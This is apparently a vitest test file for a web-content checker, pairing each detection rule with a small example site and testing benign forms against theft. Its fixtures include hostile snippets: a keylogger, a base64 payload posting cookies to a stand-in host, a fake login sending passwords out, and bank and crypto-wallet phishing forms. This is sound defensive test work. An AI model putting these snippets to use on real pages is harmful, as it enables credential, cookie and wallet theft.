/**
 * One example per rule of rules.ts: each site below makes its rule fire. A rule without an example
 * fails the first test, so adding a rule is one entry in rules.ts and one line here.
 */
import { describe, expect, it } from 'vitest';
import { checkSite } from '../../test/support/content-corpus.js';
import { RULE_IDS, RULES, type RuleId } from './rules.js';

const page = (body: string) =>
  `<!doctype html><html><head><title>t</title></head><body>\n${body}\n</body></html>`;

const EXAMPLES: Record<RuleId, Record<string, string>> = {
  'site.missing-entry': { 'a.html': page('<p>a</p>') },
  'site.missing-entry-nested': { 'dist/index.html': page('<p>a</p>'), 'README.md': '# app' },
  'ref.root-absolute': { 'index.html': page('<a href="/about.html">关于</a>') },
  'ref.missing-file': { 'index.html': page('<img src="img/none.png">') },
  'ref.missing-file-case': { 'index.html': page('<a href="Page.html">下一页</a>'), 'page.html': page('') },
  'ref.own-computer': { 'index.html': page('<img src="C:\\Users\\stu\\Desktop\\pic.jpg">') },
  'file.html-in-other-type': { 'index.html': page(''), 'notes.txt': '<!doctype html><html></html>' },
  'file.invalid-json': { 'index.html': page(''), 'data.json': '{"a":' },
  'file.not-html': { 'index.html': 'just words' },
  'file.large': {}, // made below: a file of 10 MB
  'html.external-script': { 'index.html': page('<script src="https://cdn.example.com/a.js"></script>') },
  'html.external-stylesheet': {
    'index.html': page('<link rel="stylesheet" href="https://fonts.example.com/c.css">'),
  },
  'html.external-frame': { 'index.html': page('<iframe src="https://widgets.example.com/w"></iframe>') },
  'html.embed-frame': {
    'index.html': page('<iframe src="https://player.bilibili.com/player.html?bvid=1"></iframe>'),
  },
  'html.hidden-frame': {
    'index.html': page('<iframe src="https://t.example.net/x" style="visibility:hidden"></iframe>'),
  },
  'html.meta-refresh': {
    'index.html': '<meta http-equiv="refresh" content="0;url=https://elsewhere.example.org/">',
  },
  'link.executable': { 'index.html': page('<a href="https://dl.example.com/tool.scr">下载</a>') },
  'svg.script': {
    'index.html': page(''),
    'logo.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
  },
  'form.phishing': {
    'index.html': page(
      '<h1>招商银行</h1><p>您的账户已锁定</p><form action="https://x.example.info/s" method="post"><input name="cardno"><input type="password"></form>',
    ),
  },
  'form.password-external': {
    'index.html': page(
      '<form action="https://x.example.info/s" method="post"><input type="password"></form>',
    ),
  },
  'form.sensitive-to-service': {
    'index.html': page(
      '<form action="https://docs.google.com/forms/d/e/x/formResponse" method="post"><input name="entry.1"><input type="password" name="entry.2"></form>',
    ),
  },
  'form.password-suspicious': {
    'index.html': page(
      '<form id="f" action="#"><input type="password" name="p"></form><script>fetch("https://c.example.org/?p=" + document.getElementById("p").value)</script>',
    ),
  },
  'form.server-script': {
    'index.html': page('<form action="send.asp" method="post"><input name="msg"></form>'),
  },
  'form.password-demo': { 'index.html': page('<form action="#"><input type="password"></form>') },
  'form.external-post': {
    'index.html': page('<form action="https://api.example.net/c" method="post"><input name="m"></form>'),
  },
  'form.external-get': {
    'index.html': page('<form action="https://www.bing.com/search"><input name="q"></form>'),
  },
  'form.service': {
    'index.html': page('<form action="https://getform.io/f/abc" method="post"><input name="e"></form>'),
  },
  'js.redirect': { 'index.html': page('<script>location.assign("https://other.example.org/")</script>') },
  'js.redirect-on-action': {
    'index.html': page(
      '<select id="v"><option>v2</option></select><script>document.getElementById("v").addEventListener("change", function () { location.href = "https://v2.docs.example.org/"; });</script>',
    ),
  },
  'js.redirect-hidden': {
    'index.html': page('<script>location.href = atob("aHR0cHM6Ly9zY2FtLmV4YW1wbGUueHl6Lw==")</script>'),
  },
  'js.history-trap': {
    'index.html': page(
      '<script>addEventListener("popstate", function () { history.pushState(null, "", location.href); });</script>',
    ),
  },
  'js.network-sink': {
    'index.html': page('<script>navigator.sendBeacon("https://stats.example.org/b", location.href)</script>'),
  },
  'js.network-sink-input': {
    'index.html': page(
      '<script>document.onkeyup = function (e) { new Image().src = "https://k.example.org/?" + e.key }</script>',
    ),
  },
  'js.exfil-endpoint': {
    'index.html': page('<script>var hook = "https://abc.trycloudflare.com/x";</script>'),
  },
  'js.decoded-execution': {
    'index.html': page('<script>setTimeout(decodeURIComponent("%61%6c%65%72%74%28%31%29"), 1)</script>'),
  },
  'js.eval-encoded': { 'index.html': page(`<script>eval("${'QUJD'.repeat(60)}")</script>`) },
  'js.packer': {
    'index.html': page('<script>eval(function(p,a,c,k,e,d){return p}("x",1,1,[],0,{}))</script>'),
  },
  'js.char-codes': {
    'index.html': page(`<script>var s = String.fromCharCode(${'97,'.repeat(45)}97);</script>`),
  },
  'js.hex-escapes': { 'index.html': page(`<script>var s = "${'\\x61'.repeat(45)}";</script>`) },
  'js.crypto-miner': { 'index.html': page('<script src="https://example.com/cryptonight.js"></script>') },
  'text.scam': { 'index.html': page('<p>百家乐 老虎机 真人荷官 在线娱乐</p>') },
  'text.scam-contact': { 'index.html': page('<p>百家乐 老虎机 真人荷官</p><p>客服QQ：12345678</p>') },
  'text.scam-payment': {
    'index.html': page(
      '<p>百家乐 老虎机 真人荷官</p><p>客服QQ：12345678</p><img src="skm.png" alt="收款码">',
    ),
  },
  'site.check-incomplete': {}, // made below: a file whose time budget runs out
};

describe('the rule table', () => {
  it('every rule has an example, and every example has a rule', () => {
    expect(Object.keys(EXAMPLES).sort()).toEqual([...RULE_IDS].sort());
  });

  it.each(RULE_IDS.filter((id) => Object.keys(EXAMPLES[id]).length > 0))('%s fires on its example', (id) => {
    const report = checkSite(EXAMPLES[id]);
    const found = report.findings.filter((f) => f.rule === id);
    expect(found.length, JSON.stringify(report.findings)).toBeGreaterThan(0);
    const rule = RULES[id];
    expect(found[0]).toMatchObject({ kind: rule.kind, severity: rule.severity, category: rule.category });
    // Risk findings decide the level; usability findings never do.
    if (rule.category === 'usability') expect(report.counts[rule.severity]).toBe(0);
  });

  it('file.large fires on a file of 10 MB or more', async () => {
    const { analyzeSite } = await import('./analyze.js');
    const report = analyzeSite(
      [{ path: 'video.mp4', size: 10 * 1024 * 1024, extension: 'mp4', text: null, complete: false }],
      null,
    );
    expect(report.findings.map((f) => f.rule)).toContain('file.large');
  });

  it('site.check-incomplete fires when a file runs out of its time budget', async () => {
    const { analyzeSite } = await import('./analyze.js');
    const text = `<script>${'var a = "x" + "y";\n'.repeat(20_000)}</script>`;
    const report = analyzeSite(
      [{ path: 'index.html', size: text.length, extension: 'html', text, complete: true }],
      'index.html',
      { maxMsPerFile: 0 },
    );
    expect(report.findings.map((f) => f.rule)).toContain('site.check-incomplete');
    expect(report.partially_scanned_files).toEqual(['index.html']);
    expect(report.level).toBe('medium');
  });

  it('code made at run time: data: and blob: modules, code from image pixels, a computed eval; cookies sent elsewhere', () => {
    const payload = Buffer.from(
      'fetch("https://c.example-drop.xyz/k", { method: "POST", body: document.cookie })',
    ).toString('base64');
    const rulesOf = (body: string) => checkSite({ 'index.html': page(body) }).findings.map((f) => f.rule);
    // The data: module is read like the file's own code: a cookie sent to another host.
    const data = rulesOf(`<script type="module">import("data:text/javascript;base64,${payload}")</script>`);
    expect(data).toEqual(expect.arrayContaining(['js.decoded-execution', 'js.network-sink-input']));
    expect(
      rulesOf('<script>const u = URL.createObjectURL(new Blob([src])); new Worker(u);</script>'),
    ).toContain('js.decoded-execution');
    expect(
      rulesOf(
        '<script>var d = c.getContext("2d").getImageData(0, 0, 9, 9).data; var s = decode(d); new Function(s)();</script>',
      ),
    ).toContain('js.decoded-execution');
    expect(rulesOf('<script>window["ev" + "al"](atob(v));</script>')).toContain('js.decoded-execution');
    // An ordinary module import and a canvas game that never runs what it reads stay quiet.
    expect(rulesOf('<script type="module">import("./app.js"); c.getImageData(0, 0, 1, 1);</script>')).toEqual(
      [],
    );
  });
});

describe('what the second held-out set taught (docs/content-check.md "Evaluation", session 65)', () => {
  const rulesOf = (files: Record<string, string>) =>
    checkSite(files)
      .findings.filter((f) => f.category === 'risk' && (f.severity === 'high' || f.severity === 'medium'))
      .map((f) => f.rule);

  it("a library's input-type check and clipboard event wrapper read nothing: a bundle's form to Formspree is a message", () => {
    // React DOM's shapes, then the app's own contact form.
    const bundle = `function isText(l){return l.type==="text"||l.type==="password"}
var ClipboardEvent={clipboardData:function(l){return "clipboardData" in l?l.clipboardData:window.clipboardData}};
document.getElementById("c").addEventListener("submit",function(e){e.preventDefault();
fetch("https://formspree.io/f/abcd1234",{method:"POST",body:JSON.stringify(Object.fromEntries(new FormData(e.target)))})});`;
    expect(
      rulesOf({
        'index.html': page('<div id="root"></div><script src="app.js"></script>'),
        'app.js': bundle,
      }),
    ).toEqual([]);
    // Reading what is pasted, or a password field, and sending it to the same service stays high.
    const paste = bundle.replace(
      'function isText',
      'document.onpaste=function(e){window.t=e.clipboardData.getData("text")};function isText',
    );
    expect(rulesOf({ 'index.html': page('<script src="app.js"></script>'), 'app.js': paste })).toContain(
      'js.network-sink-input',
    );
    const pwd = bundle.replace(
      'function isText',
      'var p=document.querySelector("input[type=password]");function isText',
    );
    expect(rulesOf({ 'index.html': page('<script src="app.js"></script>'), 'app.js': pwd })).toContain(
      'js.network-sink-input',
    );
  });

  it('a sign-up written to a Google Sheet through Apps Script is a message; a form read and sent to an unknown host is not', () => {
    const script = (host: string) =>
      `<form name="v"><input name="email"></form><script>var f=document.forms.v;f.addEventListener("submit",function(e){e.preventDefault();fetch("https://${host}/macros/s/AKfy/exec",{method:"POST",body:new FormData(f)})});</script>`;
    expect(rulesOf({ 'index.html': page(script('script.google.com')) })).toEqual([]);
    expect(rulesOf({ 'index.html': page(script('collect.example-drop.xyz')) })).toContain(
      'js.network-sink-input',
    );
  });

  it('a password field a script inserts as markup is a password read, however long the markup', () => {
    const markup = `<div class="win"><div class="titlebar">https://login.example.com/</div>${'<p>x</p>'.repeat(30)}<input name="password" type="password"></div>`;
    const code = `document.body.innerHTML='${markup}';document.forms[0].onsubmit=function(e){var x=new XMLHttpRequest();x.open("POST","https://steam.example-look.click/dologin");x.send(new URLSearchParams({u:e.target.password.value}).toString())}`;
    expect(markup.length).toBeGreaterThan(200);
    expect(rulesOf({ 'index.html': page(`<script>${code}</script>`) })).toContain('js.network-sink-input');
  });

  it("a wallet's recovery phrase or private key is a sensitive field; a wallet brand and lure make it phishing", () => {
    const form = (text: string) =>
      page(
        `<h1>${text}</h1><form id="s"><textarea name="phrase" placeholder="Enter your 12 word Secret Recovery Phrase"></textarea><button>Sync</button></form><script>document.getElementById("s").onsubmit=function(e){e.preventDefault();emailjs.send("service_a","template_b",{p:this.phrase.value})}</script>`,
      );
    expect(
      rulesOf({ 'index.html': form('MetaMask: validate your wallet to avoid loss of funds') }),
    ).toContain('form.phishing');
    expect(
      rulesOf({
        'index.html': page('<form><textarea name="mnemonic" placeholder="助记词"></textarea></form>'),
      }),
    ).toEqual([]);
  });

  it("a page the visitor's submit opens with the e-mail in its address is a GET form; a page leaving by itself is a redirect", () => {
    const onSubmit = `<form id="t"><input name="email"></form><script>document.getElementById("t").addEventListener("submit",function(e){e.preventDefault();var m=this.email.value;setTimeout(function(){location.href="https://app.example-saas.io/signup?email="+encodeURIComponent(m)},300)})</script>`;
    expect(rulesOf({ 'index.html': page(onSubmit) })).toEqual([]);
    expect(
      rulesOf({
        'index.html': page(
          '<script>setTimeout(function(){location.href="https://win.example-prize.top/?r="+Math.random()},800)</script>',
        ),
      }),
    ).toEqual(expect.arrayContaining(['js.redirect', 'js.network-sink']));
    // Passwords read on the page still make the same navigation a theft.
    const withPassword = onSubmit
      .replace('<input name="email">', '<input name="email"><input type="password" name="p">')
      .replace('this.email.value', 'this.email.value+this.p.value');
    expect(rulesOf({ 'index.html': page(withPassword) })).toContain('js.network-sink-input');
  });
});
